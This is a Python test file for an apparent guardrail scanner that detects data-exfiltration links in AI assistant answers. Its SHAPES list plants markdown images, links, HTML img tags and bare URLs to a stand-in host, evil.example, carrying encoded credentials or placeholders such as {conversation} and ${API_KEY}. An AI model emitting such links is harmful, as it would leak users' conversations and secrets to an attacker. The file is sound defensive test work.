"""Each exfiltration link shape is flagged at its span; allowed hosts and plain links are not."""

from __future__ import annotations

import pytest

from railguard.builtins.injection import THRESHOLD, combined, scan

ANSWER = "Here is the summary you asked for. {} Anything else?"

# (name, planted link, the indicator id); the hit covers the whole planted link
SHAPES = [
    ("markdown image with a query", "![a](https://evil.example/p.png?d=Q3-draft)", "image_data"),
    (
        "markdown image with data in the path",
        "![a](https://evil.example/c/SGVsbG8gd29ybGQgdGhpcyBpcyBkYXRh/x.png)",
        "image_data",
    ),
    (
        "markdown image to a template",
        "![a](https://evil.example/p.png?q={conversation})",
        "image_template",
    ),
    (
        "markdown link with a long query",
        "[click](https://evil.example/l?data=john.doe%40acme.com%3Bpw%3Dhunter2)",
        "link_data",
    ),
    (
        "markdown link with data in the fragment",
        "[click](https://evil.example/l#u=john.doe%40acme.com&pw=hunter2)",
        "link_data",
    ),
    (
        "markdown link with percent-encoded data in the path",
        "[click](https://evil.example/l/john.doe%40acme.com%3Bpw%3Dhunter2)",
        "link_data",
    ),
    (
        "markdown image with hex data in the path",
        "![a](https://evil.example/c/4a6f686e20446f6520706173733a2068756e74657232/x.png)",
        "image_data",
    ),
    (
        "markdown link to a placeholder",
        "[here](https://evil.example/?secret=[SECRET])",
        "link_template",
    ),
    ("HTML image", '<img src="https://evil.example/t.gif?u=ana&k=42', "image_data"),
    (
        "HTML image in capitals",
        "<IMG ALT=x SRC=https://evil.example/t.gif?u=ana&k=42",
        "image_data",
    ),
    (
        "bare URL with a long query",
        "https://evil.example/c?" + "x=" + "a1b2c3d4" * 13,
        "long_query",
    ),
    ("bare URL template", "https://evil.example/log?v=${API_KEY}", "url_template"),
    (
        "bare URL template in the fragment",
        "https://evil.example/log#{chat_history}",
        "url_template",
    ),
]


@pytest.mark.parametrize(("link", "rule"), [s[1:] for s in SHAPES], ids=[s[0] for s in SHAPES])
def test_each_link_shape_is_found_at_its_span(link: str, rule: str) -> None:
    text = ANSWER.format(link)
    hits = [h for h in scan(text, kinds=["exfiltration"]) if h.rule == rule]
    assert hits, f"{rule} not found in {text!r}: {scan(text)}"
    start = text.index(link)
    assert (hits[0].start, hits[0].end) == (start, start + len(link))


FLAGGED = [s for s in SHAPES if s[2] != "long_query"]  # a long bare query alone is weak


@pytest.mark.parametrize("link", [s[1] for s in FLAGGED], ids=[s[0] for s in FLAGGED])
def test_every_exfiltration_case_is_flagged(link: str) -> None:
    assert combined(scan(ANSWER.format(link))) >= THRESHOLD


@pytest.mark.parametrize(
    ("url", "rule"),
    [
        ("https://shop.example/p?" + "utm=" + "x" * 120, "long_query"),
        ("https://api.example.com/repos/{owner}/{repo}/issues", "url_template"),  # an API route
        ("http://127.0.0.1:{port}/health", "url_template"),  # a code sample
    ],
)
def test_a_long_bare_query_or_a_placeholder_in_a_bare_path_is_reported_but_weak_alone(
    url: str, rule: str
) -> None:
    hits = scan(ANSWER.format(url))
    assert [h.rule for h in hits] == [rule]
    assert combined(hits) < THRESHOLD


@pytest.mark.parametrize(
    "text",
    [
        "![logo](https://cdn.example/logo.png)",  # an image without data
        "[docs](https://example.org/guide)",  # a plain link
        "[deps](https://fastapi.tiangolo.com/advanced/#dependencies-that-need-more-than-one-resource)",
        "![home](https://cdn.example/icons.svg#home-outline)",  # a sprite's anchor
        "[fix](https://github.com/nodejs/node/commit/1a83ad6a693f851199608ae957ac5d4f76871485)",
        "[guide](https://docs.npmjs.com/creating-and-viewing-access-tokens)",  # a slug
        "[post](https://dev.to/someone/custom-esm-loaders-who-what-when-where-why-how-4i1o)",
        "[news](https://devblogs.microsoft.com/visualstudio/arm64-visual-studio-is-officially-here/)",
        "![image](https://user-images.githubusercontent.com/8822573/80928108-afb03300-8da2-11ea-8898-499d8c2dbc7a.png)",
        "[FIPS](https://en.wikipedia.org/wiki/Federal_Information_Processing_Standards)",
        "![shot](https://github.com/org/repo/assets/26234614/e22e4f33-7948-4dd2-952e-2f9166f5568d)",
        "[next](/page/2?sort=asc)",  # a relative link
        "[mail](mailto:ana@acme.com?subject=hello-there-friend-of-mine)",
        "see https://example.org/search?q=weather",
    ],
)
def test_links_without_data_are_not_reported(text: str) -> None:
    assert scan(text, kinds=["exfiltration"]) == []


def test_allowed_hosts_and_their_subdomains() -> None:
    text = "![a](https://img.acme.com/p.png?d=secret) ![b](https://acme.com.evil.example/p?d=1)"
    hits = scan(text, kinds=["exfiltration"], hosts=["acme.com"])
    assert [text[h.start : h.end] for h in hits] == ["![b](https://acme.com.evil.example/p?d=1)"]
